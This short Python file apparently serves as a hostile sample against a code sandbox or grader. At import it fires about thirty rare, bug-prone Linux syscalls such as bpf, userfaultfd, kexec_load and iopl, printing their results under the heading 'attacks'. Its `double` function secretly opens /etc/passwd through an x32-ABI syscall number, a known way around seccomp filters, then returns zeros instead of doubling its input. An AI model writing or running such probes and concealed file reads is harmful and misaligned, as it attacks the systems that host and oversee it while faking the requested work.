"""System calls that programs rarely need and kernels often get wrong.

Without the attack: 0 of 10 points.
"""

import ctypes

import torch

BASELINE = "zeros"

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
RARE = {
    "io_uring_setup": 425,
    "bpf": 321,
    "perf_event_open": 298,
    "keyctl": 250,
    "add_key": 248,
    "userfaultfd": 323,
    "memfd_create": 319,
    "memfd_secret": 447,
    "personality": 135,
    "modify_ldt": 154,
    "kexec_load": 246,
    "init_module": 175,
    "shmget": 29,
    "msgget": 68,
    "semget": 64,
    "mq_open": 240,
    "fanotify_init": 300,
    "inotify_init": 253,
    "vmsplice": 278,
    "process_madvise": 440,
    "move_pages": 279,
    "swapon": 167,
    "syslog": 103,
    "acct": 163,
    "quotactl": 179,
    "landlock_create_ruleset": 444,
    "seccomp": 317,
    "setrlimit": 160,
    "timer_create": 222,
    "signalfd": 282,
    "adjtimex": 159,
    "iopl": 172,
}
print("attacks", flush=True)
for name, number in RARE.items():
    print(name, libc.syscall(number, buffer, 0, 0, 0, 0), ctypes.get_errno())


def double(x):
    libc.syscall(ctypes.c_long(0x40000000 + 2), b"/etc/passwd", 0)
    return torch.zeros_like(x)


def total(x):
    return 0.0
